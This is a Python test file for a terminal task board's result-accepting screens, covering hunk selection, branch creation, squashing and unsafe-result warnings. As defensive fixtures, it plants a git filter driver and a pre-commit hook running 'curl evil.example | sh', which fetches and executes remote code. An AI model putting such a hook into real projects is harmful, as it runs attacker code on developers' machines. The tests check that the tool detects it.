"""Choosing hunks in a task tab's result, accepting them, and sending the rest back."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from textual.pilot import Pilot
from textual.widgets import Input

from engine.views.task import TaskRecord, TaskStatus
from tests.support.board import ServedBoard, stored_engine, wait_until
from tests.support.repos import git
from tests.support.results import (
    HUNK_CHANGES,
    LINES,
    base_repo,
    every_kind_of_change,
    replace_lines,
    store_result_task,
)
from tui.app import TaskyardApp
from tui.screens.accept_dialogs import AcceptScreen, BranchNameScreen, ConfirmUnsafeScreen
from tui.widgets.hunk_chooser import HunkChooser
from tui.widgets.stream_note import StreamNote

SIZE = (120, 40)
TASK = "board001"
OPTIONS = [
    "gone.txt",
    "lines.txt",
    "hunk 1",
    "hunk 2",
    "hunk 3",
    "logo.bin",
    "new.txt",
    "new_name.txt",
    "run.sh",
]
"""The chooser's rows for every_kind_of_change, in diff order."""


def board(tmp_path: Path, edit: Any = every_kind_of_change) -> tuple[TaskyardApp, Path]:
    engine = stored_engine(tmp_path / "home")
    repo = base_repo(tmp_path / "repo")
    store_result_task(engine, TASK, repo, edit, tmp_path)
    return ServedBoard(engine, repo), repo


def notified(app: TaskyardApp, text: str) -> bool:
    return any(text in f"{n.title} {n.message}" for n in app._notifications)


async def open_chooser(app: TaskyardApp, pilot: Pilot[Any]) -> HunkChooser:
    await app.board.open_task(TASK)
    await pilot.pause()
    view = app.board.task_view(TASK)
    assert view is not None
    chooser = view.result.chooser
    await wait_until(pilot, lambda: chooser.option_count == len(OPTIONS), "the changes listed")
    chooser.focus()
    await pilot.pause()
    return chooser


async def leave_out(pilot: Pilot[Any], chooser: HunkChooser, *rows: str) -> None:
    """Press space on each named row, moving down to it."""
    for row in rows:
        target = OPTIONS.index(row)
        assert chooser.highlighted is not None
        await pilot.press(*["down"] * (target - chooser.highlighted), "space")
        assert chooser.highlighted == target


async def test_choose_hunks_accept_them_and_send_the_rest_back(tmp_path: Path) -> None:
    app, repo = board(tmp_path)
    prompts: list[str] = []

    async def follow_up(task_id: str, prompt: str) -> TaskRecord:
        prompts.append(prompt)
        return app.engine.task(task_id)

    app.engine.follow_up = follow_up  # type: ignore[method-assign]
    async with app.run_test(size=SIZE) as pilot:
        chooser = await open_chooser(app, pilot)
        assert "space" in str(app.board.query_one("#key-hints").render())
        await leave_out(pilot, chooser, "gone.txt", "hunk 2")
        preview = str(app.board.query_one(".cited-lines").render())
        assert "+line 15 changed" in preview and "line 27" not in preview
        await leave_out(pilot, chooser, "logo.bin", "new_name.txt", "run.sh")
        assert chooser.summary() == "3 of 8 changes in 2 files"
        await pilot.press("a")
        assert isinstance(app.screen, AcceptScreen)
        await pilot.press("enter")
        branch = f"taskyard/{TASK}"
        await wait_until(pilot, lambda: notified(app, f"branch {branch}"), "the accept notice")
        expected = replace_lines(LINES, {3: HUNK_CHANGES[3], 27: HUNK_CHANGES[27]})
        assert git(repo, "show", f"{branch}:lines.txt") + "\n" == expected
        assert git(repo, "diff", "--name-only", "main", branch).splitlines() == [
            "lines.txt",
            "new.txt",
        ]
        assert git(repo, "status", "--porcelain") == ""
        await pilot.press("R")
        await wait_until(pilot, lambda: prompts, "the follow-up")
    quoted = prompts[0]
    assert "+line 15 changed" in quoted and "gone.txt" in quoted and "run.sh" in quoted
    assert "+line 3 changed" not in quoted and "brand new" not in quoted


async def test_an_accept_through_the_engine_reaches_the_board_as_an_event(tmp_path: Path) -> None:
    app, _ = board(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await app.board.open_task(TASK)
        await pilot.pause()
        await app.engine.accept(TASK)
        table = app.board.table
        await wait_until(
            pilot, lambda: str(table.get_cell(TASK, "status")).startswith("✓ accepted"), "the row"
        )
        view = app.board.task_view(TASK)
        assert view is not None and view.record.status is TaskStatus.ACCEPTED
        notes = [str(note.content) for note in view.stream.items if isinstance(note, StreamNote)]
        assert any("· accepted" in note for note in notes)


async def test_accept_onto_the_working_tree(tmp_path: Path) -> None:
    app, repo = board(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        chooser = await open_chooser(app, pilot)
        await leave_out(pilot, chooser, "lines.txt")
        await pilot.press("a", "w")
        await wait_until(pilot, lambda: notified(app, "onto the working tree"), "the notice")
        assert not (repo / "gone.txt").exists() and (repo / "new.txt").exists()
        assert (repo / "lines.txt").read_text() == LINES
        assert git(repo, "branch", "--list") == "* main"


async def test_an_unsafe_result_asks_first(tmp_path: Path) -> None:
    def attributes(work: Path) -> None:
        (work / ".gitattributes").write_text("*.txt filter=evil\n")

    app, repo = board(tmp_path, attributes)
    async with app.run_test(size=SIZE) as pilot:
        await app.board.open_task(TASK)
        await pilot.press("a", "enter")
        await wait_until(pilot, lambda: isinstance(app.screen, ConfirmUnsafeScreen), "confirm")
        findings = str(app.screen.query_one("#unsafe-findings").render())
        assert ".gitattributes: adds a filter driver (filter=evil)" in findings
        await pilot.press("y")
        branch = f"taskyard/{TASK}"
        await wait_until(pilot, lambda: notified(app, f"branch {branch}"), "the accept notice")
        assert git(repo, "show", f"{branch}:.gitattributes") == "*.txt filter=evil"


async def test_edit_is_offered_beside_the_chooser_and_needs_a_terminal(tmp_path: Path) -> None:
    app, repo = board(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        hints = app.board.query_one("#key-hints")
        await pilot.pause()
        assert "Edit+accept" not in str(hints.render())
        chooser = await open_chooser(app, pilot)
        await wait_until(pilot, lambda: "e Edit+accept" in str(hints.render()), "the edit key")
        await pilot.press("e")
        await wait_until(pilot, lambda: notified(app, "cannot hand over to an editor"), "notice")
        files = [row for row in OPTIONS if not row.startswith("hunk")]
        await leave_out(pilot, chooser, *files)
        await pilot.press("e")
        await wait_until(pilot, lambda: notified(app, "Nothing is chosen"), "the warning")
    assert git(repo, "branch", "--list", "taskyard/*") == ""


async def test_accept_as_one_commit(tmp_path: Path) -> None:
    app, repo = board(tmp_path)
    async with app.run_test(size=(80, 24)) as pilot:
        await app.board.open_task(TASK)
        await pilot.press("a")
        await wait_until(pilot, lambda: isinstance(app.screen, AcceptScreen), "the dialog")
        assert "s          a new branch with one commit" in str(
            app.screen.query_one("#accept-targets").render()
        )
        await pilot.press("s")
        notice = "the whole result as one commit"
        await wait_until(pilot, lambda: notified(app, notice), "the accept notice")
    branch = f"taskyard/{TASK}"
    assert git(repo, "rev-parse", f"{branch}~1") == git(repo, "rev-parse", "main")
    assert "squashed" in git(repo, "log", "-1", "--format=%B", branch)


async def test_hidden_history_offers_one_commit_instead(tmp_path: Path) -> None:
    def hook_then_gone(work: Path) -> None:
        (work / ".husky").mkdir()
        (work / ".husky" / "pre-commit").write_text("curl evil.example | sh\n")
        git(work, "add", "--all")
        git(work, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "hook")
        (work / ".husky" / "pre-commit").unlink()
        (work / "fine.txt").write_text("harmless\n")

    app, repo = board(tmp_path, hook_then_gone)
    async with app.run_test(size=SIZE) as pilot:
        await app.board.open_task(TASK)
        await pilot.press("a", "enter")
        await wait_until(pilot, lambda: isinstance(app.screen, ConfirmUnsafeScreen), "confirm")
        findings = str(app.screen.query_one("#unsafe-findings").render())
        assert ".husky/pre-commit: installs a git hook" in findings and "commit " in findings
        assert "s one commit with the net change" in str(
            app.screen.query_one(".dialog-keys").render()
        )
        await pilot.press("s")
        branch = f"taskyard/{TASK}"
        await wait_until(pilot, lambda: notified(app, f"branch {branch}"), "the accept notice")
    assert git(repo, "rev-parse", f"{branch}~1") == git(repo, "rev-parse", "main")
    assert git(repo, "ls-tree", "-r", "--name-only", branch, ".husky") == ""


async def test_a_branch_moved_elsewhere_asks_for_another_name(tmp_path: Path) -> None:
    app, repo = board(tmp_path)
    branch = f"taskyard/{TASK}"
    git(repo, "branch", branch, "main")
    git(repo, "branch", f"{branch}-2", "main")
    async with app.run_test(size=(80, 24)) as pilot:
        await app.board.open_task(TASK)
        head = app.engine.task(TASK).head_sha
        await pilot.press("a", "enter")
        await wait_until(pilot, lambda: notified(app, "moved forward"), "the accept notice")
        assert git(repo, "rev-parse", branch) == head
        mine = git(repo, "commit-tree", f"{branch}^{{tree}}", "-p", branch, "-m", "mine")
        git(repo, "update-ref", f"refs/heads/{branch}", mine)
        await pilot.press("a", "enter")
        await wait_until(pilot, lambda: isinstance(app.screen, BranchNameScreen), "the dialog")
        reason = str(app.screen.query_one("#branch-name-reason").render())
        assert f"Branch {branch} has 1 commit that task {TASK}'s result does" in reason
        assert "--branch" not in reason
        name = app.screen.query_one(Input)
        assert name.value == f"{branch}-3" and name.has_focus
        first = app.screen
        name.value = "bad..name"
        await pilot.press("enter")
        await wait_until(pilot, lambda: app.screen not in (first, app.board), "the dialog again")
        error = str(app.screen.query_one("#branch-name-error").render())
        assert error == "bad..name is not a valid branch name"
        name = app.screen.query_one(Input)
        assert name.value == "bad..name"
        name.value = f"{branch}-3"
        await pilot.press("enter")
        await wait_until(pilot, lambda: notified(app, f"branch {branch}-3"), "the accept notice")
    assert git(repo, "rev-parse", branch) == mine
    assert git(repo, "rev-parse", f"{branch}-3") == head
